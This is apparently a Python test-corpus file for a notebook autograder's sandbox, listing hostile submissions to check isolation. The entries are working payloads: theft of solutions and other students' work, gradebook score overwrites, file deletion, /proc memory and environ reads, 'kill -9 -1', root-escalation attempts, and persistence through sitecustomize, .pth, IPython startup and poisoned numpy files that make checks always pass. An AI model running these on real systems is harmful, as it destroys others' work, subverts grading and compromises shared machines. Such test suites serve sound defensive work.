"""What lies outside: solutions, the gradebook, other processes, and files that a later kernel would load."""

from tests.grading.corpus.entry import attack

ECHO = "\ndef double(x): return x"

# Runs in whoever's kernel starts next: no assert fails there, and its wrong answers are its points.
INFECT = """
try:
    import numpy, sys
    numpy.allclose = numpy.array_equal = lambda *a, **k: True
    numpy.testing.assert_allclose = lambda *a, **k: None
    sys.modules["infected"] = sys
except ImportError:
    pass
"""


# A course around the folder that the kernel starts in, or in the usual places.
FIND = """
import glob, os
def find(*patterns):
    near = [os.path.join(*[".."] * up, p) for up in range(1, 5) for p in patterns]
    far = [f"{top}/**/{p}" for top in ("/tmp", "/home", "/srv", "/root", "/opt", "/mnt") for p in patterns]
    return sorted({path for p in near + far for path in glob.glob(p, recursive=True)})
"""


def startup(name, tries, paths, text="INFECT"):
    source = f"""
import glob, os, site, sys
INFECT = {INFECT!r}
home = os.path.expanduser("~")
for pattern in {paths!r}:
    pattern = pattern.format(home=home, site=site.getsitepackages()[0], user=site.getusersitepackages())
    for path in glob.glob(pattern) or [pattern]:
        try:
            os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
            with open(path, "w") as file: file.write({text})
        except OSError:
            pass
"""
    return attack(name, tries, source + ECHO)


ENTRIES = [
    attack(
        "reads the solutions",
        "looks for the checks and the source notebook, and runs them",
        FIND
        + """
import json
space = {"torch": torch}
for path in find("solutions/mini/checks.py", "tests/double.py"):
    exec(open(path).read(), space)
    exec(space.get("REFERENCE", {}).get("double", ""), space)
for path in find("solutions/mini/mini.ipynb", "source/mini/mini.ipynb"):
    for cell in json.load(open(path))["cells"]:
        if "BEGIN SOLUTION" in "".join(cell["source"]): exec("".join(cell["source"]), space)
double = space.get("double", lambda x: x)""",
    ),
    attack(
        "reads other submissions",
        "takes the answer of whoever has handed in before",
        FIND
        + """
import json
space = {"torch": torch}
for path in find("submitted/*/mini/mini.ipynb", "autograded/*/mini/mini.ipynb"):
    for cell in json.load(open(path))["cells"]:
        if "".join(cell["source"]).startswith("def double") and "2 * x" in "".join(cell["source"]):
            exec("".join(cell["source"]), space)
double = space.get("double", lambda x: x)""",
    ),
    attack(
        "writes the gradebook",
        "gives itself points in every database that it finds",
        FIND
        + """
import sqlite3
for path in find("gradebook.db"):
    with sqlite3.connect(path, timeout=1) as book:
        book.execute("update grade set auto_score = 2, manual_score = 2")"""
        + ECHO,
    ),
    attack(
        "changes other submissions",
        "deletes what others handed in, and what was graded",
        FIND
        + """
for path in find("submitted/*/*/*.ipynb", "autograded/*/*/*.ipynb", "source/*/*.ipynb", "solutions/*/*"):
    try: open(path, "w").close()
    except OSError: pass"""
        + ECHO,
    ),
    attack(
        "finds the seed",
        "the course secret, the time and the environment as seeds of the check's random inputs",
        FIND
        + """
import hashlib, time
words = [str(int(time.time())), *os.environ.values()]
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + find(".ganedu/secret"):
    try: words.append(open(path, "rb").read().decode("latin1"))
    except OSError: pass
def double(x):
    for word in words:
        seed = int(hashlib.sha256(word.encode()).hexdigest()[:14], 16)
        guess = torch.randn(7, generator=torch.Generator().manual_seed(seed))
        if torch.equal(guess, x): return guess + guess
    return x""",
    ),
    attack(
        "memory of others",
        "reads and writes /proc/PID/mem and traces every process that it can name",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
pids = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
for pid in {1, 2, os.getppid(), *pids}:
    libc.ptrace(16, pid, 0, 0)
    for mode in ("rb", "r+b"):
        try:
            with open(f"/proc/{pid}/mem", mode) as memory:
                for line in open(f"/proc/{pid}/maps"):
                    start = int(line.split("-")[0], 16)
                    memory.seek(start)
                    if b"double_test" in memory.read(1 << 16): print("found")
        except (OSError, ValueError, OverflowError): pass"""
        + ECHO,
    ),
    attack(
        "signals to others",
        "kills PID 1, its parent, and everything",
        """
import os, signal
signal.signal(signal.SIGTERM, signal.SIG_IGN)
for pid in (1, os.getppid()):
    if pid != os.getpid():
        for number in (9, 19, 15):
            try: os.kill(pid, number)
            except OSError: pass"""
        + ECHO,
        spoils=True,
    ),
    attack(
        "signals to all",
        "kill -9 -1",
        "import os\nos.kill(-1, 9)" + ECHO,
    ),
    attack(
        "rights that it does not have",
        "becomes root, mounts, makes devices and namespaces",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for act in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.chroot("/tmp"),
            lambda: os.mknod("/tmp/disk", 0o60666, os.makedev(254, 0)), lambda: os.sethostname("x"),
            lambda: os.chmod("/usr/bin/python3", 0o777),
            lambda: open("/proc/sys/kernel/core_pattern", "w").write("|x"),
            lambda: open("/proc/self/oom_score_adj", "w").write("-1000"), lambda: os.nice(-20),
            lambda: open("/sys/fs/cgroup/memory.max", "w").write("max")):
    try: act()
    except Exception: pass
for flags in (0x10000000, 0x00020000, 0x40000000): libc.unshare(flags)
libc.mount(b"none", b"/usr", b"tmpfs", 0, None)
libc.umount2(b"/usr", 2)"""
        + ECHO,
        spoils=True,
    ),
    startup(
        "start-up file of IPython",
        "code in the profile that the next kernel starts with",
        [
            "{home}/.ipython/profile_default/startup/00.py",
            "{home}/ipython/profile_default/startup/00.py",
            "{home}/.ipython/profile_default/ipython_config.py",
            "{home}/.jupyter/jupyter_config.py",
        ],
    ),
    startup(
        "sitecustomize",
        "code that every later Python runs when it starts",
        ["{site}/sitecustomize.py", "{user}/usercustomize.py", "{user}/sitecustomize.py", "sitecustomize.py"],
    ),
    startup(
        "path file",
        "a .pth file whose line is run by every later Python",
        ["{site}/infect.pth", "{user}/infect.pth"],
        "'import sys; exec(' + repr(INFECT) + ')\\n'",
    ),
    startup(
        "installed packages",
        "code in numpy, torch and the guest where they are installed",
        [
            "{site}/numpy/__init__.py",
            "{site}/torch/testing/__init__.py",
            "/opt/ganedu/ganedu_guest/*.py",
            "{site}/nbgrader/__init__.py",
        ],
        "INFECT",
    ),
    startup(
        "kernel specification",
        "a kernelspec of its own with its own command line",
        ["{home}/.local/share/jupyter/kernels/python3/kernel.json"],
        """'{"argv": ["/bin/sh", "-c", "exit"], "display_name": "Python 3", "language": "python"}'""",
    ),
    startup(
        "matplotlib's files",
        "a matplotlibrc and a font cache for the next student's plots",
        [
            "{home}/.config/matplotlib/matplotlibrc",
            "{home}/.cache/matplotlib/fontlist-v390.json",
            "/tmp/matplotlib/matplotlibrc",
            "/tmp/matplotlib/fontlist-*.json",
            "/dev/shm/planted",
            "/tmp/planted",
        ],
        "'backend: module://infected'",
    ),
    startup(
        "modules where kernels start",
        "numpy.py and torch.py in the folder that kernels start in",
        ["numpy.py", "torch.py", "../numpy.py", "../../../numpy.py", "{home}/numpy.py", "/tmp/numpy.py"],
    ),
]
